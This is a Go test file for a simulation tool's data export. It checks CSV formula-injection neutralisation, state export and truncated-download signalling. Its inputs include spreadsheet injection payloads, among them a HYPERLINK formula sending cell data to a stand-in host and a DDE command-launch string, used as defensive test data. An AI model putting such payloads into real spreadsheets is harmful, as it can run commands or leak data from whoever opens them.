package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"math"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ethox/ethox/apperr"
	"github.com/ethox/ethox/database"
	entsim "github.com/ethox/ethox/ent/simulation"
	"github.com/ethox/ethox/export"
	"github.com/ethox/ethox/graphstore"
	"github.com/ethox/ethox/internal/testdb"
	"github.com/ethox/ethox/networkfile"
)

func TestCSVText(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example","click")`, `'=HYPERLINK("http://evil.example","click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"--", "'--"},
		{"-e5", "'-e5"},
		// Plain numbers are numbers, not formulas: kept readable.
		{"-3", "-3"},
		{"-2.5", "-2.5"},
		{"+7", "+7"},
		{"-1e3", "-1e3"},
		{"-.5", "-.5"},
		// Anything else is untouched.
		{"", ""},
		{"I think =this is fine", "I think =this is fine"},
		{" =1+1", " =1+1"},
		{"agent_7", "agent_7"},
		{"'quoted", "'quoted"},
	}
	for _, tt := range tests {
		if got := export.CSVText(tt.in); got != tt.want {
			t.Errorf("CSVText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// seedRun stores a network whose agent ids are given and a run with one
// state per agent and round, filled in by state.
func seedRun(t *testing.T, db *database.DB, ids []string, rounds int, state func(agent, round int) (opinion string, care, support float64)) int {
	t.Helper()
	ctx := context.Background()
	g := &networkfile.Graph{}
	for _, id := range ids {
		g.Nodes = append(g.Nodes, networkfile.Node{AgentID: id, Traits: map[string]float64{}, Profile: map[string]any{}, Attributes: map[string]any{}})
	}
	n, err := graphstore.New(db).Import(ctx, g, graphstore.ImportOptions{Name: "csv"})
	if err != nil {
		t.Fatal(err)
	}
	sim, err := db.Client.Simulation.Create().SetNetworkID(n.ID).SetEngine(entsim.EngineDEGROOT).SetTrigger("x").SetRounds(rounds - 1).Save(ctx)
	if err != nil {
		t.Fatal(err)
	}
	full, err := graphstore.New(db).LoadGraph(ctx, &n.ID)
	if err != nil {
		t.Fatal(err)
	}
	cols := []string{"simulation_id", "agent_id", "round", "opinion", "care", "support", "failed", "latency_ms", "prompt_tokens", "completion_tokens", "retries", "created_at"}
	tx, err := db.SQL.BeginTx(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now().UTC()
	_, err = database.InsertBatches(ctx, tx, db.Dialect, "agent_states", cols, "", len(ids)*rounds, func(i int, args []any) []any {
		a, r := i%len(ids), i/len(ids)
		op, care, support := state(a, r)
		return append(args, sim.ID, full.AgentPKs[a], r, op, care, support, false, 1, 2, 3, 0, now)
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	return sim.ID
}

// states.csv neutralises formulas in text cells (ids from uploads, opinions
// from LLMs) and keeps the numbers it writes readable.
func TestStatesCSVNeutralisesFormulas(t *testing.T) {
	for _, dialect := range testdb.Dialects() {
		t.Run(dialect, func(t *testing.T) {
			db := testdb.Open(t, dialect)
			ids := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "-7", "@me"}
			opinions := []string{"=1+1", "+cmd|' /C calc'!A0", "\t-2+3"}
			simID := seedRun(t, db, ids, 1, func(a, _ int) (string, float64, float64) {
				return opinions[a], 2.5, -1.5 - float64(a)
			})
			var buf bytes.Buffer
			if err := export.StatesCSV(context.Background(), db, simID, &buf); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			got := map[string][]string{}
			for _, rec := range recs[1:] {
				got[rec[0]] = rec
			}
			want := []struct{ id, opinion, support string }{
				{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'=1+1", "-1.5"},
				{"-7", "'+cmd|' /C calc'!A0", "-2.5"},
				{"'@me", "'\t-2+3", "-3.5"},
			}
			for _, w := range want {
				rec, ok := got[w.id]
				if !ok {
					t.Fatalf("no row with agent_id %q in %q", w.id, recs)
				}
				if rec[2] != w.opinion || rec[4] != w.support || rec[3] != "2.5" {
					t.Errorf("row %q: opinion %q care %q support %q, want %q 2.5 %q", w.id, rec[2], rec[3], rec[4], w.opinion, w.support)
				}
			}
		})
	}
}

// get downloads url with a real HTTP/1.1 client and reads the whole body.
// get downloads url uncompressed, unless gzip: then Go's transport asks for
// gzip and decodes it, as most clients do.
func get(t *testing.T, url string, gzip ...bool) (*http.Response, []byte, error) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, url, nil)
	if len(gzip) == 0 || !gzip[0] {
		req.Header.Set("Accept-Encoding", "identity")
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return resp, body, err
}

// A download that fails after its first bytes must not look complete to
// the client: the body ends early with an error, and without the trailer
// a complete download carries. One that fails before any byte gets an
// error status.
func TestServeFailureIsVisibleToTheClient(t *testing.T) {
	payload := strings.Repeat("0123456789abcdef\n", 2000) // 34 KB: past every buffer
	boom := errors.New("database went away")
	tests := []struct {
		name       string
		write      func(w io.Writer) error
		wantStatus int
		wantErr    bool
		wantBody   string
	}{
		{"complete", func(w io.Writer) error { _, err := io.WriteString(w, payload); return err }, 200, false, payload},
		{"fails mid-stream", func(w io.Writer) error {
			if _, err := io.WriteString(w, payload); err != nil {
				return err
			}
			return boom
		}, 200, true, ""},
		{"fails after a few bytes", func(w io.Writer) error {
			if _, err := io.WriteString(w, "agent_id,round\n"); err != nil {
				return err
			}
			return boom
		}, 200, true, ""},
		{"fails before any byte", func(io.Writer) error { return boom }, 500, false, "internal error\n"},
		{"not found before any byte", func(io.Writer) error { return apperr.New(apperr.NotFound, "simulation 9 not found") }, 404, false, "simulation 9 not found\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				export.Serve(w, r, "text/csv; charset=utf-8", "states.csv", tt.write)
			}))
			defer srv.Close()
			resp, body, err := get(t, srv.URL)
			if resp.StatusCode != tt.wantStatus {
				t.Fatalf("status %d, want %d", resp.StatusCode, tt.wantStatus)
			}
			if tt.wantErr {
				if !errors.Is(err, io.ErrUnexpectedEOF) {
					t.Fatalf("reading the body: %v after %d bytes, want io.ErrUnexpectedEOF (a truncated download)", err, len(body))
				}
				if v := resp.Trailer.Get(export.StatusTrailer); v != "" {
					t.Fatalf("a failed download carries %s: %q", export.StatusTrailer, v)
				}
				return
			}
			if err != nil {
				t.Fatalf("reading the body: %v", err)
			}
			if string(body) != tt.wantBody {
				t.Fatalf("body %.80q (%d bytes), want %.80q (%d bytes)", body, len(body), tt.wantBody, len(tt.wantBody))
			}
			wantTrailer := ""
			if tt.wantStatus == 200 {
				wantTrailer = "complete"
			}
			if v := resp.Trailer.Get(export.StatusTrailer); v != wantTrailer {
				t.Fatalf("trailer %s = %q, want %q", export.StatusTrailer, v, wantTrailer)
			}
		})
	}
}

// Issue 11: a NaN stored by PostgreSQL (SQLite refuses it: NaN binds as
// NULL) made the JSON Lines export stop early with HTTP 200 and a clean
// end. Now the client sees a truncated body.
func TestStatesJSONLFailingMidStreamIsTruncated(t *testing.T) {
	if !slices.Contains(testdb.Dialects(), "postgres") {
		t.Skip(testdb.PostgresSkipped())
	}
	db := testdb.Open(t, "postgres")
	ids := make([]string, 200)
	for i := range ids {
		ids[i] = fmt.Sprint(i)
	}
	// Round 0 is 200 good rows (well past the writers' buffers), round 1
	// holds NaN, which encoding/json refuses.
	simID := seedRun(t, db, ids, 2, func(a, r int) (string, float64, float64) {
		if r == 1 {
			return "x", math.NaN(), 0
		}
		return "an opinion long enough to fill the buffers", 5, 1
	})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		export.Serve(w, r, "application/jsonl", "states.jsonl", func(w io.Writer) error {
			return export.StatesJSONL(r.Context(), db, simID, w)
		})
	}))
	defer srv.Close()
	resp, body, err := get(t, srv.URL)
	if resp.StatusCode != 200 || len(body) == 0 {
		t.Fatalf("status %d with %d bytes: the failure should come after the first bytes", resp.StatusCode, len(body))
	}
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("reading the body: %v after %d bytes, want io.ErrUnexpectedEOF", err, len(body))
	}
	// Compressed, the good rows may still sit in the coder when the failure
	// comes, but the status has gone with the gzip header: the decoded body
	// must end in an error too, never cleanly.
	resp, body, err = get(t, srv.URL, true)
	if resp.StatusCode != 200 || resp.Uncompressed != true {
		t.Fatalf("gzip: status %d, decoded by the transport %v", resp.StatusCode, resp.Uncompressed)
	}
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("gzip: reading the body: %v after %d bytes, want io.ErrUnexpectedEOF", err, len(body))
	}
}
